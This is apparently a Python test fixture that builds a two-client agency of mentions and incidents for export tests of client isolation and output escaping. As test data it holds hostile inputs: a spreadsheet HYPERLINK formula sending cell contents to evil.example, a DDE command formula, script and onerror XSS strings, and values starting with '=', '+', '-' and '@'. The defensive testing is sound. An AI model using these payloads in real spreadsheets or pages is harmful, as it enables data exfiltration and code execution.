"""A small agency built with the ORM for export tests: two clients whose data must never mix,
hostile text from the internet, and incidents whose response clocks were met, missed or pending.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import datetime, timedelta
from decimal import Decimal

from sqlalchemy.orm import Session

from douse.core.db.models import (
    Account,
    Activity,
    Author,
    Client,
    Incident,
    IncidentMention,
    Mention,
    Source,
    Staff,
)

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click") <script>alert(1)</script>'
HOSTILE_TEXT = "<img src=x onerror=alert(1)> **bold** [link](javascript:alert(1)) & more"


@dataclass
class Agency:
    acme: Client
    other: Client
    alice: Staff
    bob: Staff
    met: Incident  # answered within its due time
    missed: Incident  # answered after its due time
    pending: Incident  # unanswered, not yet due
    breached: Incident  # unanswered, the engine stamped a breach
    secret: Incident  # the other client's: must never appear in acme's export


def _mention(
    session: Session,
    client: Client,
    source: Source,
    author: Author,
    key: str,
    at: datetime,
    *,
    title: str = "",
    text: str = "",
    label: str = "negative",
    compound: float | None = -0.6,
    account: Account | None = None,
) -> Mention:
    mention = Mention(
        client_id=client.id,
        source_id=source.id,
        account_id=account.id if account else None,
        author_id=author.id,
        platform="mastodon",
        external_id=key,
        dedupe_key=key,
        url=f"https://social.example/@{author.handle}/{key}",
        canonical_url=f"https://social.example/@{author.handle}/{key}",
        title=title,
        text=text,
        published_at=at,
        fetched_at=at + timedelta(minutes=3),
        language="en",
        sentiment_compound=compound,
        sentiment_label=label,
        sentiment_reasons=["word: awful"],
        model_label=label,
        likes=3,
        shares=1,
        replies=2,
        fingerprint=f"fp-{key}",
        raw={"id": key, "nested": {"ü": [1, 2.5, None]}},
    )
    session.add(mention)
    session.flush()
    return mention


def _incident(
    session: Session,
    client: Client,
    owner: Staff | None,
    title: str,
    opened: datetime,
    *,
    severity: str = "high",
    status: str = "in_progress",
    answered: datetime | None = None,
    due: datetime | None = None,
    breached: datetime | None = None,
    mentions: tuple[Mention, ...] = (),
    kind: str = "mention",
    account: Account | None = None,
) -> Incident:
    incident = Incident(
        client_id=client.id,
        account_id=account.id if account else None,
        kind=kind,
        title=title,
        severity=severity,
        severity_reasons=["negative", "reach"],
        status=status,
        owner_id=owner.id if owner else None,
        is_pattern=kind == "pattern",
        distinct_authors=max(1, len({m.author_id for m in mentions})),
        mention_count=len(mentions),
        terms=["refund"],
        opened_at=opened,
        first_response_at=answered,
        last_response_at=answered,
        first_response_due_at=due,
        due_at=due,
        breached_at=breached,
        breach_kind="first_response" if breached else None,
        updated_at=opened,
    )
    session.add(incident)
    session.flush()
    for m in mentions:
        session.add(IncidentMention(incident_id=incident.id, mention_id=m.id, added_at=opened))
    return incident


def build_agency(session: Session, now: datetime) -> Agency:
    """Incidents a few days before `now`; times chosen so results do not depend on the weekday."""
    alice = Staff(handle="alice", name="Alice Archer", email="alice@agency.example")
    bob = Staff(handle="bob", name="Bob Brand")
    session.add_all([alice, bob])
    session.flush()
    acme = Client(
        slug="acme",
        name="Acme Coffee",
        timezone="Europe/London",
        first_response_minutes=120,
        targets_by_severity={"critical": {"first_response": 30}},
        created_at=now - timedelta(days=90),
        updated_at=now - timedelta(days=90),
        default_owner_id=alice.id,
    )
    other = Client(
        slug="globex",
        name="Globex Secret",
        timezone="America/New_York",
        created_at=now - timedelta(days=90),
        updated_at=now - timedelta(days=90),
    )
    session.add_all([acme, other])
    session.flush()
    account = Account(client_id=acme.id, platform="mastodon", handle="@acme", owner_id=alice.id)
    session.add(account)
    src = Source(client_id=acme.id, name="mastodon-search", kind="mastodon", target="acme")
    other_src = Source(client_id=other.id, name="feed", kind="rss", target="https://g.example/")
    session.add_all([src, other_src])
    session.flush()
    angry = Author(platform="mastodon", handle="angry", display_name="Angry <b>Person</b>")
    calm = Author(platform="mastodon", handle="calm", followers=12000, is_vip=True)
    session.add_all([angry, calm])
    session.flush()
    d = now - timedelta(days=3)
    m1 = _mention(session, acme, src, angry, "m1", d, title=HOSTILE_TITLE, text=HOSTILE_TEXT)
    m2 = _mention(session, acme, src, calm, "m2", d + timedelta(minutes=5), text="Still no refund")
    m3 = _mention(
        session, acme, src, angry, "m3", d + timedelta(hours=30), text="=cmd|' /C calc'!A0"
    )
    m4 = _mention(
        session,
        acme,
        src,
        calm,
        "m4",
        d + timedelta(hours=31),
        text="Love it",
        label="positive",
        compound=0.8,
    )
    dup = _mention(
        session, acme, src, calm, "m2-copy", d + timedelta(minutes=9), text="Still no refund"
    )
    dup.duplicate_of_id = m2.id
    s1 = _mention(session, other, other_src, angry, "s1", d, text="Globex private matter")
    met = _incident(
        session,
        acme,
        alice,
        HOSTILE_TITLE,
        d,
        answered=d + timedelta(minutes=50),
        due=d + timedelta(hours=2),
        mentions=(m1, m2, dup),
        kind="pattern",
        account=account,
    )
    missed = _incident(
        session,
        acme,
        bob,
        "-2+3 slow delivery",
        d + timedelta(hours=30),
        severity="critical",
        answered=d + timedelta(hours=33),
        due=d + timedelta(hours=30, minutes=30),
        mentions=(m3,),
        status="resolved",
    )
    missed.resolved_at = d + timedelta(hours=40)
    missed.resolution = "@refund issued"
    missed.repair_status = "post_updated"
    pending = _incident(
        session,
        acme,
        None,
        "Fresh complaint",
        now - timedelta(minutes=30),
        severity="medium",
        status="new",
        due=now + timedelta(minutes=90),
        mentions=(m4,),
    )
    breached = _incident(
        session,
        acme,
        alice,
        "Ignored complaint",
        d + timedelta(hours=2),
        severity="low",
        status="acknowledged",
        due=d + timedelta(hours=4),
        breached=d + timedelta(hours=4),
    )
    secret = _incident(
        session,
        other,
        bob,
        "Globex secret incident",
        d,
        answered=d + timedelta(minutes=5),
        due=d + timedelta(hours=2),
        mentions=(s1,),
    )
    session.flush()
    first = Activity(
        incident_id=met.id,
        kind="public_reply",
        channel="mastodon",
        staff_id=alice.id,
        at=d + timedelta(minutes=50),
        body="+1 sorry, DM us",
        outcome="acknowledged",
    )
    session.add(first)
    session.flush()
    session.add_all(
        [
            Activity(
                incident_id=met.id,
                kind="offer_made",
                channel="email",
                staff_id=alice.id,
                at=d + timedelta(hours=1),
                body="Refund offered <b>now</b>",
                amount=Decimal("12.50"),
                currency="GBP",
                details={"order": "A-1"},
            ),
            Activity(
                incident_id=met.id,
                kind="correction",
                staff_id=bob.id,
                at=d + timedelta(hours=2),
                body="@typo: it was a DM",
                corrects_id=first.id,
            ),
            Activity(
                incident_id=missed.id,
                kind="email",
                staff_id=bob.id,
                at=d + timedelta(hours=33),
                body="Sorry for the wait",
            ),
            Activity(
                incident_id=secret.id,
                kind="email",
                staff_id=bob.id,
                at=d,
                body="Globex reply",
            ),
        ]
    )
    session.flush()
    return Agency(acme, other, alice, bob, met, missed, pending, breached, secret)


def add_loose_mentions(session: Session, agency: Agency, now: datetime) -> list[Mention]:
    """Mentions of acme that no incident holds: they count in the chart all the same."""
    src = session.query(Source).filter_by(client_id=agency.acme.id).one()
    calm = session.query(Author).filter_by(handle="calm").one()
    d = now - timedelta(days=2)
    praise = _mention(session, agency.acme, src, calm, "loose-1", d, text="Lovely flat white")
    praise.sentiment_label, praise.sentiment_compound = "positive", 0.7
    praise.label_corrected_by_id = agency.bob.id  # a person's correction, exported with a handle
    plain = _mention(
        session, agency.acme, src, calm, "loose-2", d + timedelta(hours=5), text="Open at 8?"
    )
    plain.sentiment_label, plain.sentiment_compound = "unscored", None
    copy = _mention(
        session, agency.acme, src, calm, "loose-3", d + timedelta(hours=6), text="Lovely flat white"
    )
    copy.duplicate_of_id = praise.id
    session.flush()
    return [praise, plain, copy]


def add_team_entries(session: Session, agency: Agency) -> None:
    """What the desk records for the team: a note, a re-assignment, status changes."""
    at = agency.missed.opened_at
    session.add_all(
        [
            Activity(
                incident_id=agency.missed.id,
                kind="internal_note",
                staff_id=agency.bob.id,
                at=at + timedelta(minutes=5),
                body="Known troll account. Not engaging.",
            ),
            Activity(
                incident_id=agency.missed.id,
                kind="assignment",
                staff_id=agency.alice.id,
                at=at + timedelta(minutes=6),
                body="alice -> bob",
                details={"from": "alice", "to": "bob"},
            ),
            Activity(
                incident_id=agency.missed.id,
                kind="status_change",
                staff_id=agency.bob.id,
                at=at + timedelta(hours=3),
                body="new -> in_progress: first response",
                details={"from": "new", "to": "in_progress"},
            ),
            Activity(
                incident_id=agency.missed.id,
                kind="status_change",
                staff_id=agency.bob.id,
                at=at + timedelta(hours=10),
                body="in_progress -> resolved: refund confirmed",
                details={"from": "in_progress", "to": "resolved"},
            ),
        ]
    )
    session.flush()
